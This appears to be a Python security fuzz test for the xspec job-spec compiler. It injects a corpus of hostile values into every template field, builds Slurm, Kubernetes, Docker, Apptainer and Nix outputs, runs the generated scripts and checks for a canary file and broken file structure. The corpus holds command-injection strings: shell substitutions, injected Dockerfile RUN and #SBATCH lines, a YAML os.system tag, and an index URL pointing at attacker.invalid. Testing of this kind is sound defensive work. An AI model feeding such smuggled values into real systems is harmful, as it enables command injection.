"""The hostile-value fuzz: every value of a corpus in every string field of a template spec.

For each (field, value): the spec is checked and built for every target (in-process).
Either the checker reports an error (no traceback), or every target builds or is
refused with a BLD diagnostic, and then

- every generated runner (sbatch script, the Kubernetes ConfigMap's script, the
  Docker/Apptainer/Nix `xspec-job.sh`) is executed with bash, in a folder of its own
  that is also its project and runs folder; none may create the canary file that the
  corpus's commands `touch` (a relative name, looked for anywhere in that folder);
- every generated file keeps its shape: the Dockerfile has exactly its instructions,
  the Apptainer definition its sections, the Kubernetes YAML its two documents, the
  sbatch script its `#SBATCH` block, requirements.lock only requirement lines, and
  every header comment stays a comment when split the way YAML and Python split lines.

Runners that differ only in digests (the spec's, in headers and XSPEC_SPEC_DIGEST) run
once. ``python -m tests.security.hostile`` prints the figures; the test asserts them.
It imports nothing of xspec's but the pipeline, so it also runs against older code.
"""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import sys
import tempfile
import time
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path

import yaml

DIGEST = "a" * 64
C = "XSPEC_CANARY"    # a relative name: whatever ran it, in whichever job folder, is found
CORPUS = [
    f"$(touch {C})", f"`touch {C}`", f"; touch {C};", f"| touch {C}", f"&& touch {C}", f"\ntouch {C}\n",
    f"\r\ntouch {C}", f"a\x00b$(touch {C})", f"}}$(touch {C})", f"HOME}}$(touch {C})", f"'; touch {C}; '",
    f"\"; touch {C}; \"", f"\u2028touch {C}", f"\x85touch {C}", f"\u2029$(touch {C})", "x" * 5000,
    "é漢字🙂ü", f"python\nRUN touch {C}\nFROM python@sha256:{DIGEST}", f"x\nRUN touch {C}",
    f"a: b\n- c\n!!python/object/apply:os.system [\"touch {C}\"]", f"x\n%post\ntouch {C}",
    "==1.0\n--index-url https://attacker.invalid/simple", f"==1.0 --find-links {C}",
    f"gpu\n#SBATCH --wrap=touch {C}", "${HOME}", "$HOME", "*", "-rf", "--x=y z", "''${x}",
    '${builtins.abort "nix ran"}', "\\", "a\tb", "\x1b[2J\x1b[HAll checks passed.", "%", "../../../etc",
    "", " ", f"$((1+1))$(touch {C})", f"<(touch {C})", f">{C}", "'\"", f"\\\n$(touch {C})",
]

DEFAULTS = {
    "data_path": "data.csv", "data_version": "1", "data_description": "d", "python": "3.11.9",
    "image": f"docker.io/library/python:3.11.9-slim@sha256:{DIGEST}",
    "nixpkgs": "github:NixOS/nixpkgs/57d6973abba7ea108bac64ae7629e7431e0199b6",
    "package_name": "numpy", "package_spec": "==1.26.4", "system": "libgomp1=12.2.0-14",
    "index_url": "https://pypi.org/simple", "env_var_name": "EV", "env_var_value": "ev",
    "env_description": "e", "profile_var_name": "PV", "profile_var_value": "pv",
    "profile_description": "p", "description": "x", "param_default": "s", "param_doc": "doc",
    "enum_choice": "a", "sweep_value": "w", "secret_env": "TOKEN_SRC", "k8s_secret": "creds",
    "k8s_key": "key", "run_arg": "arg", "output": "out.txt", "var_name": "V", "var_value": "v",
    "workdir": ".", "gpu_type": "a100", "partition": "debug", "account": "lab", "qos": "normal",
    "constraint": "a100", "module": "cuda/12.1", "extra_arg": "--requeue", "namespace": "ns",
    "label_key": "kubernetes.io/os", "label_value": "linux", "service_account": "sa",
    "pull_secret": "regcred", "priority_class": "low", "gpu_resource": "nvidia.com/gpu",
    "toleration_key": "k", "toleration_value": "v", "run_string_param": "r",
}
FIELDS = [*DEFAULTS, "file_name"]

TEMPLATE = """xspec 1

data d {{
  path = {data_path}
  version = {data_version}
  description = {data_description}
}}

env e {{
  python = {python}
  image = {image}
  nixpkgs = {nixpkgs}
  packages = {{ {package_name} = {package_spec} }}
  system = [{system}]
  index_url = {index_url}
  vars = {{ {env_var_name} = {env_var_value} }}
  description = {env_description}
}}

profile p {{
  framework = "generic"
  vars = {{ {profile_var_name} = {profile_var_value} }}
  description = {profile_description}
}}

experiment x {{
  description = {description}
  env = e
  data = [d]
  seed = 1
  determinism = p
  param s: str = {param_default} {param_doc}
  param c: enum({enum_choice}) = {enum_choice}
  param w: str = "w"
  param r: str = {run_string_param}
  sweep grid {{ w = [{sweep_value}] }}
  secret tok from env({secret_env})
  secret kt from k8s({k8s_secret}, {k8s_key})
  run = {run}
  outputs = [{output}]
  vars = {{ {var_name} = {var_value}, TOK = tok, KT = kt }}
  workdir = {workdir}
  resources {{ cpus = 1, gpus = 1, gpu_type = {gpu_type}, memory = 1GiB, time = 1h }}
  target slurm {{ partition = {partition}, account = {account}, qos = {qos}, constraint = {constraint},
                 modules = [{module}], extra_args = [{extra_arg}] }}
  target k8s {{ namespace = {namespace}, node_selector = {{ {label_key} = {label_value} }},
               service_account = {service_account}, image_pull_secrets = [{pull_secret}],
               priority_class = {priority_class}, gpu_resource = {gpu_resource},
               tolerations = [{{ key = {toleration_key}, operator = "Equal", value = {toleration_value},
                                effect = "NoSchedule" }}] }}
}}
"""
ARGV_RUN = '["true", {run_arg}, s, c, w, d.path, d.version]'
STRING_RUN = '"true ${{r}} ${{s}}"'
TARGETS = ["ir", "slurm", "k8s", "docker", "apptainer", "nix"]
DOCKERFILE = ["FROM", "LABEL", "ENV", "RUN", "COPY", "RUN", "COPY", "WORKDIR", "USER", "ENTRYPOINT"]
APPTAINER = ["labels", "files", "environment", "post", "runscript"]
_DIGESTS = re.compile(r"sha256:[0-9a-f]{64}|[0-9a-f]{32}")
_PLATFORMS = re.compile(r"docker|apptainer|nix|/work|\$PWD")
_BREAKS = re.compile("\r\n|[\n\r\x0b\x0c\x1c-\x1e\x85\u2028\u2029]")


def literal(value: str) -> str:
    """An xspec string literal that is exactly ``value`` (no interpolation)."""
    out = []
    for ch in value:
        code = ord(ch)
        if ch in '\\"$':
            out.append("\\" + ch)
        elif ch == "\n":
            out.append("\\n")
        elif code < 0x20 or 0x7f <= code <= 0x9f or ch in "\u2028\u2029":
            out.append(f"\\u{code:04x}")
        else:
            out.append(ch)
    return '"' + "".join(out) + '"'


@dataclass
class Figures:
    values: int = 0
    fields: int = 0
    pairs: int = 0
    refused_by_check: int = 0
    built: int = 0
    refused_by_backend: int = 0
    backend_refusals: list[str] = field(default_factory=list)
    not_applicable: int = 0
    executions: int = 0
    injections: list[str] = field(default_factory=list)
    tracebacks: list[str] = field(default_factory=list)
    failed_runs: list[str] = field(default_factory=list)
    seconds: float = 0.0
    build_seconds: float = 0.0

    def lines(self) -> list[str]:
        return [f"{self.values} values x {self.fields} fields = {self.pairs} specs "
                f"({self.not_applicable} not applicable: a file name cannot hold the value)",
                f"refused by check: {self.refused_by_check}; built: {self.built} "
                f"(of which refused by a backend, BLD: {self.refused_by_backend})",
                f"runner executions: {self.executions}; injections: {len(self.injections)}; "
                f"tracebacks: {len(self.tracebacks)}; failed runs: {len(self.failed_runs)}; "
                f"{self.seconds:.0f} s ({self.build_seconds:.0f} s checking and building)"]


class Fuzz:
    def __init__(self, work: Path, fields=FIELDS, corpus=CORPUS, workers: int = 4):
        self.work, self.fields, self.workers = work, fields, workers
        self.corpus = list(corpus)
        self.figures = Figures(values=len(self.corpus), fields=len(fields))
        self.scripts: dict[str, tuple] = {}     # masked text -> (where, target, text, extra env)
        self.bin = work / "bin"
        self.bin.mkdir(parents=True)
        (self.bin / "module").write_text("#!/bin/sh\nexit 0\n")       # `module load` in sbatch
        (self.bin / "module").chmod(0o755)

    def run(self) -> Figures:
        started = time.monotonic()
        for name in self.fields:
            for i, value in enumerate(self.corpus):
                self.one(name, i, value)
        self.figures.build_seconds = time.monotonic() - started
        self.execute_all()
        self.figures.seconds = time.monotonic() - started
        return self.figures

    # ---- one spec ------------------------------------------------------------------------

    def one(self, name: str, i: int, value: str) -> None:
        self.figures.pairs += 1
        where = f"{name}[{i}]={value[:40]!r}"
        project = self.work / f"{name}-{i}"
        spec = self.write(project, name, value)
        if spec is None:
            self.figures.not_applicable += 1
            return
        try:
            compiled = self.compile(spec)
        except Exception as e:          # a traceback is a finding, not a crash of the fuzz
            self.figures.tracebacks.append(f"{where}: {type(e).__name__}: {e}")
            return
        errors = [d for d in compiled.diagnostics if d.severity.name == "ERROR"]
        if errors and not all(d.code.startswith("BLD") for d in errors):
            self.figures.refused_by_check += 1
            return
        self.figures.built += 1
        if errors:
            self.figures.refused_by_backend += 1
            self.figures.backend_refusals += [f"{where}: {d.code} {d.message[:80]}" for d in errors]
        extra = {value: "t"} if name == "secret_env" and re.fullmatch(r"[A-Za-z_][A-Za-z0-9_]*", value) else {}
        self.inspect(where, compiled.files, extra)
        shutil.rmtree(project, ignore_errors=True)

    def write(self, project: Path, name: str, value: str) -> Path | None:
        values = {k: literal(v) for k, v in DEFAULTS.items()}
        file_name = "t.xspec"
        if name == "file_name":
            if "/" in value or "\0" in value or len(value.encode()) > 200 or value in ("", ".", ".."):
                return None
            file_name = value + ".xspec"
        else:
            values[name] = literal(value)
        values["run"] = (STRING_RUN if name == "run_string_param" else ARGV_RUN).format(**values)
        project.mkdir(parents=True)
        (project / "xspec.toml").write_text("")
        spec = project / file_name
        spec.write_text(TEMPLATE.format(**values), encoding="utf-8")
        return spec

    def compile(self, spec: Path):
        from xspec.backends.common import Options
        from xspec.backends.pipeline import compile_spec

        return compile_spec(spec, TARGETS, Options(allow_unlocked=True))

    # ---- the generated files -------------------------------------------------------------------

    def inspect(self, where: str, files: dict[str, str], extra: dict) -> None:
        for path, text in files.items():
            target = path.split("/", 1)[0]
            problem = self.shape(path, text)
            if problem:
                self.figures.injections.append(f"{where}: {path}: {problem}")
            script = self.runner(path, text)
            if script is not None:
                # Digests and the local platforms' names are fixed text, not values: one run each.
                masked = _PLATFORMS.sub("L", _DIGESTS.sub("D", script))
                self.scripts.setdefault(masked, (where, target, script, extra))

    def runner(self, path: str, text: str) -> str | None:
        if path.endswith(".sbatch") or path.endswith("xspec-job.sh"):
            return text
        if path.startswith("k8s/"):
            try:
                return list(yaml.safe_load_all(text))[0]["data"]["xspec-job.sh"]
            except Exception:
                return None     # reported by shape()
        return None

    def shape(self, path: str, text: str) -> str | None:
        if not _header_is_comment(text, "//" if path.endswith(".json") else "#"):
            return "a header comment line was broken"
        if path.endswith("Dockerfile"):
            found = [line.split(" ", 1)[0] for line in _BREAKS.split(text)
                     if line and not line.startswith((" ", "#", "\t"))]
            return None if found == DOCKERFILE else f"instructions {found}"
        if path.endswith(".def"):
            found = [line[1:] for line in _BREAKS.split(text) if line.startswith("%")]
            return None if found == APPTAINER else f"sections {found}"
        if path.endswith(".yaml"):
            try:
                documents = list(yaml.safe_load_all(text))
            except yaml.YAMLError as e:
                return f"YAML does not parse: {e}"
            return None if [d.get("kind") for d in documents] == ["ConfigMap", "Job"] else "documents"
        if path.endswith("requirements.lock"):
            bad = [line for line in _BREAKS.split(text) if line.strip().startswith("-")
                   and not line.strip().startswith("--hash=")]
            return f"option lines {bad}" if bad else None
        if path.endswith(".sbatch"):
            head = _BREAKS.split(text.split("\nset -euo pipefail\n", 1)[0])
            return None if all(line.startswith("#") or not line for line in head) else "the #SBATCH block"
        return None

    # ---- running the runners -------------------------------------------------------------------

    def execute_all(self) -> None:
        with ThreadPoolExecutor(self.workers) as pool:
            list(pool.map(self.execute, enumerate(self.scripts.values())))

    def execute(self, item) -> None:
        n, (where, target, script, extra) = item
        folder = self.work / "runs" / str(n)
        folder.mkdir(parents=True)
        (folder / "job.sh").write_text(script, encoding="utf-8")
        env = {"PATH": f"{self.bin}:{os.environ['PATH']}", "HOME": str(folder), "LC_ALL": "C.UTF-8",
               "TOKEN_SRC": "t", "TOK": "t", "KT": "k", "SLURM_SUBMIT_DIR": str(folder),
               "SLURM_ARRAY_JOB_ID": "1", "SLURM_ARRAY_TASK_ID": "0", "JOB_COMPLETION_INDEX": "0",
               "XSPEC_PROJECT_ROOT": str(folder), "XSPEC_RUNS_DIR": str(folder / "runs"), "XSPEC_RUN_ID": "1", **extra}
        args = ["0"] if target in ("docker", "apptainer", "nix") else []
        try:
            done = subprocess.run(["bash", str(folder / "job.sh"), *args], cwd=folder, env=env,
                                  capture_output=True, timeout=60)
        except subprocess.TimeoutExpired:
            self.figures.failed_runs.append(f"{where}: {target}: timed out")
            return
        self.figures.executions += 1
        if list(folder.rglob(C)):
            self.figures.injections.append(f"{where}: {target} runner created the canary")
        if done.returncode != 0:
            self.figures.failed_runs.append(f"{where}: {target}: exit {done.returncode}: "
                                            f"{done.stderr.decode(errors='replace')[-200:]}")


def _header_is_comment(text: str, prefix: str) -> bool:
    """The generated-file header, from "Generated by xspec" to its "lock digest:" line, is
    comment lines however the text is split into lines."""
    lines = _BREAKS.split(text)
    start = next((i for i, line in enumerate(lines) if "Generated by xspec" in line), None)
    if start is None:
        return True           # files without a header (flake.lock, requirements, JSON)
    end = next((i for i in range(start, len(lines)) if "lock digest:" in lines[i]), len(lines) - 1)
    return all(line.startswith(prefix) for line in lines[start:end + 1])


def main() -> int:
    with tempfile.TemporaryDirectory(prefix="xspec-hostile-") as folder:
        figures = Fuzz(Path(folder)).run()
    print("\n".join(figures.lines()))
    for kind in ("injections", "tracebacks", "failed_runs", "backend_refusals"):
        for line in getattr(figures, kind)[:50]:
            print(f"{kind}: {line}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
